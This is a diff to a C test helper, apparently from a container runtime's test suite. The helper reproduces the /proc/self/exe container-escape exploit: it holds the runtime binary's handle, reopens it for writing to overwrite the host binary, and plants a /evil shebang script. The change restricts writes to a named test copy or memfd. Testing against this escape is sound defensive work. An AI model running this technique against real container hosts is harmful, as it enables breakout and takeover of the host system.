@@ -8,17 +8,24 @@
    that process is gone (no more ETXTBSY), reopen the handle through
    /proc/self/fd/N for writing and overwrite the host's binary.
 
+   Safety: the helper only ever writes to the image the test names
+   (TARGET, "DEV:INO" of the private copy of the runtime under test) or to
+   a memfd; any other image it happens to hold (say a reaper's, if the
+   runtime exited early) is reported as target=other and left alone.
+
    Subcommands (output: key=value lines; errno values are symbolic names,
    0 for success):
 
-     hold PID [WAIT]   open /proc/PID/exe (O_PATH), try to open it for
+     hold PID WAIT TARGET
+                       open /proc/PID/exe (O_PATH), try to open it for
                        writing right away (open_wr=), print `held`, then
                        wait until PID is gone or runs another image (at
-                       most WAIT seconds, default 20) and try again
+                       most WAIT seconds) and try again
                        through the held handle (reopen_wr=, write=),
                        then print `done`.
                        PID `ppid` means our parent at start.
-     shebang SECONDS   the classic exploit: write /evil, a script whose
+     shebang SECONDS TARGET
+                       the classic exploit: write /evil, a script whose
                        interpreter is #!/proc/self/exe, so that `exec ID
                        /evil` makes the runtime run its own image as a
                        container process.  The image blocks opening its
@@ -132,6 +139,27 @@ wait_released (const struct catch *c, double seconds)
     nap ();
 }
 
+static dev_t target_dev;
+static ino_t target_ino;
+
+static bool
+parse_target (const char *s)
+{
+  unsigned long long dev, ino;
+  if (s == NULL || sscanf (s, "%llu:%llu", &dev, &ino) != 2)
+    return false;
+  target_dev = (dev_t)dev;
+  target_ino = (ino_t)ino;
+  return true;
+}
+
+/* The runtime under test, or a copy of it the runtime made (a memfd). */
+static bool
+is_target (const struct catch *c)
+{
+  return (c->dev == target_dev && c->ino == target_ino) || strncmp (c->exe, "/memfd:", 7) == 0;
+}
+
 /* The write itself: through the held handle, as the exploit does, for as
    long as some process still runs the image (ETXTBSY): the runtime's
    own processes on the host may take a moment to exit. */
@@ -139,6 +167,12 @@ static void
 report_write (const struct catch *c, const char *suffix)
 {
   char path[64];
+  if (!is_target (c))
+    {
+      printf ("target%s=other\n", suffix);
+      return;
+    }
+  printf ("target%s=runtime\n", suffix);
   snprintf (path, sizeof path, "/proc/self/fd/%d", c->fd);
   double end = now () + 10;
   int wr;
@@ -156,13 +190,13 @@ report_write (const struct catch *c, const char *suffix)
 static int
 cmd_hold (int argc, char **argv)
 {
-  if (argc < 1)
+  if (argc < 3 || !parse_target (argv[2]))
     {
-      fprintf (stderr, "usage: attack hold PID [WAIT]\n");
+      fprintf (stderr, "usage: attack hold PID WAIT DEV:INO\n");
       return 2;
     }
   pid_t pid = strcmp (argv[0], "ppid") == 0 ? getppid () : (pid_t)atoi (argv[0]);
-  double wait = argc > 1 ? atof (argv[1]) : 20;
+  double wait = atof (argv[1]);
   struct catch c;
   printf ("pid=%d\n", (int)pid);
   if (!grab (pid, &c))
@@ -244,7 +278,12 @@ scan (struct catch *c, int n, const struct stat *self)
 static int
 cmd_shebang (int argc, char **argv)
 {
-  double seconds = argc > 0 ? atof (argv[0]) : 20;
+  if (argc < 2 || !parse_target (argv[1]))
+    {
+      fprintf (stderr, "usage: attack shebang SECONDS DEV:INO\n");
+      return 2;
+    }
+  double seconds = atof (argv[0]);
   struct catch c[MAX_CAUGHT];
   struct stat self;
   int n = 0;
@@ -288,6 +327,6 @@ main (int argc, char **argv)
     return cmd_hold (argc - 2, argv + 2);
   if (argc >= 2 && strcmp (argv[1], "shebang") == 0)
     return cmd_shebang (argc - 2, argv + 2);
-  fprintf (stderr, "usage: attack hold PID [WAIT] | attack shebang SECONDS\n");
+  fprintf (stderr, "usage: attack hold PID WAIT DEV:INO | attack shebang SECONDS DEV:INO\n");
   return 2;
 }
